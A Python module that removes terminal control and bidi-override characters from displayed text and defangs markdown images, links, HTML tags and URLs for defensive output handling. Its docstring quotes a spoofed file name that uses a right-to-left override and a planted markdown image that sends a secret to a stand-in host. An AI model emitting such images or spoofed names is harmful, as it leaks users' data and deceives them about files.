"""Text from articles and file names is shown, never obeyed.

Before such text reaches a terminal or a page, the characters that would act instead of being
read are taken out: C0/C1 control characters (a terminal's escape sequences can retitle the
window or clear the screen) and the bidi overrides, embeddings and isolates that reorder what
follows ("news\u202efdp.txt" would read "newstxt.pdf"). Arabic's own marks (LRM, RLM, ALM)
only set direction and stay. A line break becomes a space where one line is expected.

Text handed to other programs (the API, `--json`) that is not a verified answer, such as a
refused draft or a quoted passage, is also `defanged`: a client that renders markdown or HTML
must not fetch a planted image ("![x](http://host/?data=SECRET)") or follow a planted link.
"""

from __future__ import annotations

import re

_ACTIVE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def shown(text: str, one_line: bool = False) -> str:
    """`text` with its control and bidi-override characters removed; tabs and line breaks
    kept (as spaces with `one_line`)."""
    text = _ACTIVE.sub("", text)
    return " ".join(text.split()) if one_line else text


# What a markdown or HTML renderer would act on, and the plain text each becomes.
_MARKUP = (
    (re.compile(r"!\["), "! ["),  # markdown image
    (re.compile(r"\]\("), "] ("),  # markdown link target
    (re.compile(r"<(?=\s*/?\s*[A-Za-z!?])"), "‹"),  # an HTML tag or comment
)
_LINK = (re.compile(r"\bhttp(s?)://", re.IGNORECASE), r"hxxp\1://")  # not clickable any more


def has_markup(text: str) -> bool:
    """Whether `text` holds a markdown image or link, or an HTML tag."""
    return any(pattern.search(text) for pattern, _ in _MARKUP)


def defanged(text: str) -> str:
    """`text` as plain words: no markdown image or link, HTML tag or clickable address."""
    for pattern, replacement in (*_MARKUP, _LINK):
        text = pattern.sub(replacement, text)
    return text
